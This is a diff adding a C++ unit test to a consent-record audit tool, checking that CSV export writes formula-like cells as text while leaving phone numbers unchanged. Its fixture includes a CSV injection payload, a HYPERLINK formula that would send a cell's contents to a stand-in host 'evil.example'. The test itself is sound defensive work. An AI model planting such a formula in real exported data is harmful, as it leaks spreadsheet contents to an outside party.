@@ -977,6 +977,27 @@ TEST(Audit, AnOptOutNeverToldIsSlowOnceTheThresholdPasses) {
   EXPECT_NE(csv.str().find(",aloware (dead),"), std::string::npos) << csv.str();
 }
 
+// An address or a reason is anybody's text: one a spreadsheet would run
+// as a formula is written as text ("'" first); a phone number is not.
+TEST(Audit, ACsvCellThatWouldRunAsAFormulaIsWrittenAsText) {
+  ConsentRecord r;
+  r.status = "opted_out";
+  r.channel = "email";
+  r.phone = "+12055550142";
+  r.email = "=HYPERLINK(\"http://evil.example/\"&A2)@x.com";
+  r.reason = "-2+3";
+  r.cause = "@SUM(1)";
+  std::ostringstream csv, err;
+  ASSERT_EQ(PrintConsentRecords({r}, "csv", csv, err), 0);
+  const std::string row = csv.str().substr(csv.str().find('\n') + 1);
+  EXPECT_NE(row.find(",+12055550142,"), std::string::npos) << row;
+  EXPECT_NE(row.find(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A2)@x.com\","), std::string::npos)
+      << row;
+  EXPECT_NE(row.find(",'-2+3,"), std::string::npos) << row;
+  EXPECT_NE(row.find(",'@SUM(1),"), std::string::npos) << row;
+  EXPECT_EQ(row.find(",=H"), std::string::npos) << row;
+}
+
 // Replay options with US numbers and Aloware the one target, holding the phone.
 struct AlowareReplay {
   AlowareReplay() {
